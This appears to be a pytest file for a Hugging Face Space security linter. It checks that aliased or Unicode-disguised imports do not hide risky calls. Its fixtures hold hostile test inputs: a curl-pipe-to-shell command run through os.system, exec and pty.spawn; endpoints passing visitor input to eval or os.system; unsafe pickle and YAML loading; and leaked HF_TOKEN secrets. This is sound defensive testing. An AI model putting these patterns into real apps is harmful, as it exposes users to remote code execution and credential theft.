"""Functions that an import renames: the test of words before parsing must not lose them, and what they run counts."""

from __future__ import annotations

import ast
from pathlib import Path

import hf_lint
import pytest
from hf_lint.pipeline.engine import check_space
from hf_lint.space.hints import holds
from support import plan, space_of

CARD = "---\nsdk: gradio\nsdk_version: 5.49.1\napp_file: app.py\n---\n"
SCRIPT = "curl http://example.com/x | sh"
SECRET = 'ge("HF_TOKEN")'
VISITOR = "\ngr.Interface(f, 'text', 'text').launch()"
SUBPROCESS = "from subprocess import getoutput as g\n"
BLOCKS = "\nwith gr.Blocks() as d:\n    t = gr.Textbox()\n    "
HANDLER = "import os\n"
GET = "\n    def do_GET(self):\n        os.system(self.path)"
PIN = f'revision="{"0123456789" * 4}"'
LOAD = f'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", {PIN}, trust_remote_code={{}})'
ARGUMENT = (
    "import argparse\np = argparse.ArgumentParser()\n"
    'p.add_argument("--trust", action="store_false"{})\nargs = p.parse_args()\n'
)
KEYWORDS = "from transformers import AutoModel\nkw = {}\n"


RULES = frozenset(
    (
        *("code-from-environment", "runtime-install", "runtime-clone", "tunnel-or-miner", "unsafe-deserialization"),
        *("unpinned-model", "trusted-remote-code", "secret-default", "secret-logged", "secret-shown-to-visitors"),
        *("code-execution-endpoint", "dynamic-code", "remote-script"),
    )
)


def rules_of(code: str) -> set[str]:
    files = {"README.md": CARD, "app.py": f"import gradio as gr\nimport helper\n{code}\n", "helper.py": f"{code}\n"}
    report = check_space(space_of(files if "gr." not in code else {**files, "helper.py": ""}), plan())
    assert not report.errors
    return {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("code-from-environment", f'from os import system as s\ns("{SCRIPT}")'),
        ("code-from-environment", f'from os import (\n    popen as s,\n)\ns("{SCRIPT}")'),
        ("code-from-environment", f'import os as o\nf = o.system\nf("{SCRIPT}")'),
        ("code-from-environment", f'from os import *\nsystem("{SCRIPT}")'),
        ("code-from-environment", f'from subprocess import *\nrun("{SCRIPT}", shell=True)'),
        ("code-from-environment", f'from oſ import ſystem as s\ns("{SCRIPT}")'),
        ("code-from-environment", f'import 𝗌𝗎𝖻𝗉𝗋𝗈𝖼𝖾𝗌𝗌 as s\ns.ｒｕｎ("{SCRIPT}", 𝗌𝗁𝖾𝗅𝗅=True)'),
        ("unsafe-deserialization", 'from 𝗍𝗈𝗋𝖼𝗁 import 𝗅𝗈𝖺𝖽\nload("m.pt", weights_only=False)'),
        ("code-from-environment", f'import posix\nposix.system("{SCRIPT}")'),
        ("code-from-environment", f'import os\nos.execvp("sh", ["sh", "-c", "{SCRIPT}"])'),
        ("code-from-environment", f'import os\nos.execlp("sh", "sh", "-c", "{SCRIPT}")'),
        ("code-from-environment", f'import os\nos.spawnlp(os.P_WAIT, "sh", "sh", "-c", "{SCRIPT}")'),
        ("code-from-environment", f'import os\nos.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "{SCRIPT}"])'),
        ("code-from-environment", f'import os\nos.posix_spawn("/bin/sh", ["sh", "-c", "{SCRIPT}"], os.environ)'),
        ("code-from-environment", f'import pty\npty.spawn(["sh", "-c", "{SCRIPT}"])'),
        ("runtime-install", 'from os import system as s\ns("pip install torch")'),
        ("runtime-install", 'from pip import main as m\nm(["install", "torch"])'),
        ("runtime-clone", 'from os import system as s\ns("git clone https://github.com/a/b")'),
        ("tunnel-or-miner", 'from os import system as s\ns("ngrok http 7860")'),
        ("unsafe-deserialization", 'import torch as th\nth.load("m.pt", weights_only=False)'),
        ("unsafe-deserialization", 'from torch import load\nload("m.pt", weights_only=False)'),
        ("unsafe-deserialization", 'from yaml import unsafe_load as u\nu(open("a.yaml"))'),
        ("unsafe-deserialization", 'import yaml as y\ny.load(open("a"), y.Loader)'),
        ("unsafe-deserialization", 'from yaml import load, Loader\nload(open("a"), Loader)'),
        ("unpinned-model", 'from torch.hub import load as L\nL("a/b", "m")'),
        ("unpinned-model", 'import torch.hub as h\nh.load("a/b", "m")'),
        ("unpinned-model", 'from gradio import load as L\nL("models/a/b")'),
        ("unpinned-model", 'from transformers import (\n    pipeline as p,\n)\np("text-generation", model="a/b")'),
        ("trusted-remote-code", f'{KEYWORDS}kw["trust_remote_code"] = True\nAutoModel.from_pretrained("a/b", **kw)'),
        (
            "trusted-remote-code",
            f'{KEYWORDS}kw.setdefault("trust_remote_code", True)\nAutoModel.from_pretrained("a/b", **kw)',
        ),
        ("trusted-remote-code", f"def yes():\n    return True\n{LOAD.format('yes()')}"),
        ("trusted-remote-code", f"{ARGUMENT.format('')}{LOAD.format('args.trust')}"),
        ("trusted-remote-code", ARGUMENT.format(", dest='x'") + LOAD.format("args.x")),
        ("trusted-remote-code", LOAD.format("2**0")),
        ("trusted-remote-code", LOAD.format("NotImplemented is not None")),
        ("secret-default", 'from os import getenv as ge\nK = ge("ADMIN_PASSWORD", "hunter2secret99")'),
        ("secret-default", 'from os import environ as en\nK = en.get("ADMIN_PASSWORD", "hunter2secret99")'),
        ("secret-logged", f"from os import getenv as ge\nprint({SECRET})"),
        ("secret-logged", 'from os import *\nprint(getenv("HF_TOKEN"))'),
        ("secret-logged", 'from os import environ as en\nprint(en["HF_TOKEN"])'),
        ("secret-shown-to-visitors", f"from os import getenv as ge\ngr.Markdown({SECRET})"),
        ("code-execution-endpoint", 'gr.Interface(eval, "text", "text")'),
        ("code-execution-endpoint", 'import os\ngr.Interface(fn=os.system, inputs="text", outputs="text")'),
        ("code-execution-endpoint", f'{SUBPROCESS}gr.Interface(g, "text", "text")'),
        ("code-execution-endpoint", "import subprocess\ngr.ChatInterface(subprocess.getoutput)"),
        ("code-execution-endpoint", f"{HANDLER}from http import server\nclass H(server.BaseHTTPRequestHandler):{GET}"),
        ("code-execution-endpoint", f"{HANDLER}from http.server import BaseHTTPRequestHandler as B\nclass H(B):{GET}"),
        ("code-execution-endpoint", f"import os{BLOCKS}gr.Button().click(os.system, t, None)"),
        ("code-execution-endpoint", f"{BLOCKS}t.submit(exec, [t], [])"),
        ("code-execution-endpoint", f"from os import *\ndef f(x):\n    system(x){VISITOR}"),
        ("code-execution-endpoint", f'import os\ndef f(x):\n    os.execvp("sh", ["sh", "-c", x]){VISITOR}'),
        ("code-execution-endpoint", f'import os\ndef f(x):\n    os.spawnlp(0, "sh", "sh", "-c", x){VISITOR}'),
        ("code-execution-endpoint", f'import pty\ndef f(x):\n    pty.spawn(["sh", "-c", x]){VISITOR}'),
    ],
)
def test_another_name_hides_nothing(rule: str, code: str) -> None:
    assert rule in rules_of(code)


@pytest.mark.parametrize(
    "code",
    [
        f'from helper import system as s\ns("{SCRIPT}")',
        f'import platform\nprint(platform.system(), "{SCRIPT}")',
        f'from os import *\ndef system(x):\n    return x\nsystem("{SCRIPT}")',
        f'from subprocess import *\nrun = print\nrun("{SCRIPT}")',
        f'import os\nos.execvp("ls", ["sh", "-c", "{SCRIPT}"])',
        'import json\nfrom json import load\nload(open("m.json"))',
        'import torch as th\nth.load("m.pt", weights_only=True)',
        'from yaml import load, SafeLoader\nload(open("a"), SafeLoader)',
        'from os import getenv as ge\nK = ge("PORT", "7860")',
        'gr.Interface(len, "text", "text")',
        'from math import exp as eval\ngr.Interface(eval, "number", "number")',
        f"import subprocess{BLOCKS}t.submit(print, [t], [])",
        'import os\ngr.Interface(os.system, "checkbox", "text")',
        f'import os\ndef f(x):\n    os.execvp("echo", ["echo", x]){VISITOR}',
        f"{KEYWORDS}kw.setdefault('trust_remote_code', False)\nAutoModel.from_pretrained(NAME, **kw)",
        f"def yes():\n    return False\n{LOAD.format('yes()')}",
        f"def yes():\n    if x:\n        return True\n    return ask()\n{LOAD.format('yes()')}",
        f"{ARGUMENT.format('').replace('false', 'true')}{LOAD.format('args.trust')}",
        f"{KEYWORDS}kw['trust_remote_code'] = False\nprint(dict(**kw))",
        f"{KEYWORDS}def f():\n    kw = {{}}\n    kw['trust_remote_code'] = True\nprint(dict(**kw))",
    ],
)
def test_look_alikes_stay_silent(code: str) -> None:
    assert not rules_of(code) & RULES


def test_hints() -> None:
    assert holds("import torch as t\nt.load(x)", "torch&load")
    assert not holds("import torch\ndownload(x), load_model(x)", "torch&load")
    assert not holds("load(x)", "torch&load")
    assert holds("x.from_pretrained()", "from_pret")


ALLOWED = {
    "eval(": "a built-in, which no import renames, and only tells which other files are code",
    "compile(": "as `eval(`",
    "vars(": "as `eval(`",
    "sys.path": "says which files may be reached, and `path.append` stands beside it",
    "path.append": "as `sys.path`",
    "path.insert": "as `sys.path`",
    "Flask(": "tells which folders are served, silences nothing",
    "Page(": "as `Flask(`",
    ".h5": "the ending of a file",
    ".hdf5": "the ending of a file",
    ".html": "the ending of a file",
    ".htm": "the ending of a file",
    ".js": "the ending of a file",
    **dict.fromkeys(("env.", "env(", "env[", "config(", "ption("), "names that people give, besides those of modules"),
    "app.keys": "of Koa, in JavaScript",
    **dict.fromkeys(
        ("mkdirSync(", "mkdir(", "writeFileSync(", "appendFileSync(", "createWriteStream(", "multer("),
        "of JavaScript, and about what does not start",
    ),
    "sys.modules[__name__": "says that a module makes names, and is about what does not start",
    ".env": "the name of a file",
    "Settings)": "a class that is inherited from, by any name with this end",
}
SCRIPTS = frozenset(("page_scripts.py", "script_fetches.py", "node_files.py", "javascript.py", "script_logs.py"))
"""Those look into JavaScript and shell, which have other imports."""


def hints() -> list[str]:
    """All words that the text of Python is searched for before it is parsed, with the file that does so."""
    found: list[str] = []
    root = Path(hf_lint.__file__).parent
    for folder in ("rules", "analysis", "startup", "space"):
        for path in sorted((root / folder).rglob("*.py")):
            tree = ast.parse(path.read_text("utf-8")) if path.name not in SCRIPTS else ast.Module([], [])
            for node in ast.walk(tree):
                given: list[ast.expr] = []
                if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
                    if node.targets[0].id.endswith(("_WORDS", "_HINTS")) and node.targets[0].id != "_PLAIN_WORDS":
                        given = [node.value]
                elif isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("calls", "units"):
                    given = [one for one in node.args[1:] if not any(isinstance(p, ast.Call) for p in ast.walk(one))]
                texts = [part.value for one in given for part in ast.walk(one) if isinstance(part, ast.Constant)]
                found += [text for text in texts if isinstance(text, str)]
    return found


def test_no_hint_is_a_name_as_it_is_written() -> None:
    words = hints()
    assert {"torch&load", "os&system", "custom_pipeline"} <= set(words)
    assert [word for word in words if set(word) & set(".()[") and word not in ALLOWED] == []
